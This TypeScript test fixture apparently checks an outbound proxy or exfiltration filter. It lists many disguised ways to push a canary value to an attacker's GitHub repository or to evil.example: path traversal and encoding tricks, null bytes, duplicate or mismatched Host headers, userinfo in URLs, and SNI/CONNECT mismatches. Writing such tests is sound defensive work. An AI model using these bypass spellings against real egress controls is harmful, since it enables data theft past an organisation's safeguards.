/** One address under many spellings: a push, a file and a gist to somebody else, spelled as ours or as a read. */
import { gitPush, PUSH } from './git-bytes.ts'
import { base64, CANARY, type Channel, channelsOf, json, type Row, send } from './shape.ts'

const FILE = { message: 'x', content: base64(CANARY) }

const PUSHES = [
  '/mallory/loot.git/git-receive-pack/',
  '/mallory/loot.git/GIT-RECEIVE-PACK',
  '/mallory/loot.git/%67it-receive-pack',
  '/mallory/loot.git/git-receive-pack%20',
  '/mallory/loot.git/git-receive-pack%00',
  '/mallory/loot.git/git-receive-pack;x',
  '/mallory/loot.git/git-receive-pack?service=git-upload-pack',
  '/mallory/loot.git/git-receive-pack#/acme/app',
  '//mallory/loot.git/git-receive-pack',
  '/./mallory/loot.git/git-receive-pack',
  '/acme/app/../../mallory/loot.git/git-receive-pack',
  '/acme/app/%2e%2e/%2e%2e/mallory/loot.git/git-receive-pack',
  '/acme/app%2f..%2f..%2fmallory%2floot.git/git-receive-pack',
  '/acme/app%252f..%252f..%252fmallory%252floot.git/git-receive-pack',
  '/acme/..;/mallory/loot.git/git-receive-pack',
  '/acme\\..\\mallory/loot.git/git-receive-pack',
  '/acme%c0%af..%c0%afmallory/loot.git/git-receive-pack',
  '/acme\uff0f..\uff0fmallory/loot.git/git-receive-pack',
  '/acme@mallory/loot.git/git-receive-pack',
  '/acme/loot/mallory/git-receive-pack',
  '/acme%20/loot.git/git-receive-pack',
  '/.acme/loot.git/git-receive-pack',
]

const FILES = [
  '/Repos/mallory/loot/contents/a',
  '/repos/mallory/loot/contents/a/',
  '/repos/mallory/loot/contents//a',
  '/repos/acme/../mallory/loot/contents/a',
  '/repos/acme/app/contents/..%2f..%2f..%2f..%2fmallory/loot/contents/a',
  '/repos/acme%2fapp/contents/a',
  '/repos/acme/app%00/contents/a',
  '/repositories/acme/app/contents/a',
  '/repos/acme;mallory/loot/contents/a',
  '/user/repos/acme/app/contents/a',
]

export const SPELLINGS: readonly Channel[] = [
  ...channelsOf(
    'a push spelled',
    PUSHES.map((path): Row => [path, gitPush(`https://github.com${Buffer.from(path).toString('latin1')}`)]),
  ),
  ...channelsOf(
    'a file spelled',
    FILES.map((path): Row => [path, json('PUT', `https://api.github.com${path}`, FILE)]),
  ),
  ...channelsOf('a name spelled', [
    [
      'Host with a dot at its end, CONNECT without',
      gitPush('https://github.com/mallory/loot.git/git-receive-pack', PUSH, 'Host: github.com.'),
    ],
    [
      'CONNECT and SNI with a dot at their end',
      { ...gitPush('https://github.com/mallory/loot.git/git-receive-pack'), connect: 'github.com.:443' },
    ],
    ['in capitals', gitPush('https://GITHUB.COM/mallory/loot.git/git-receive-pack')],
    ['Host with a port', gitPush('https://github.com/mallory/loot.git/git-receive-pack', PUSH, 'Host: github.com:443')],
    ['two Hosts', send('POST', 'http://evil.example/', CANARY, 'Host: x.corp.example', 'Host: evil.example')],
    ['an empty Host', gitPush('https://github.com/mallory/loot.git/git-receive-pack', PUSH, 'Host:')],
    [
      'the whole URL of another inside',
      { ...send('POST', 'https://github.com/', CANARY, 'Host: evil.example'), target: 'https://evil.example/x' },
    ],
    ['a user in the authority', { raw: post('http://x.corp.example@evil.example/', 'evil.example') }],
    ['a user in the CONNECT', { raw: 'CONNECT x.corp.example:443@evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n' }],
    ['a zero byte in the name', { raw: post('http://evil.example%00.corp.example/', 'evil.example') }],
    ['a fragment in the authority', { raw: post('http://evil.example#.corp.example/', 'evil.example') }],
    ['a backslash in the authority', { raw: post('http://evil.example\\.corp.example/', 'evil.example') }],
    ['a Host that is not the URL’s', { raw: post('http://x.corp.example/', 'evil.example') }],
    ['a name below ours that is not', send('POST', 'http://corp.example.evil.example/')],
    ['the name itself, of which what is below is excepted', send('POST', 'http://corp.example/')],
    ['a name that ends as ours', send('POST', 'https://evilcorp.example/')],
    ['the SNI of a host that is excepted', { ...send('POST', 'https://evil.example/'), sni: 'x.corp.example' }],
    [
      'a CONNECT to a host that is excepted and the SNI of another',
      { ...send('POST', 'https://evil.example/'), connect: 'x.corp.example:443' },
    ],
    ['no SNI', { ...send('POST', 'https://evil.example/'), sni: null }],
  ]),
]

function post(url: string, host: string): string {
  return `POST ${url} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${CANARY.length}\r\n\r\n${CANARY}`
}
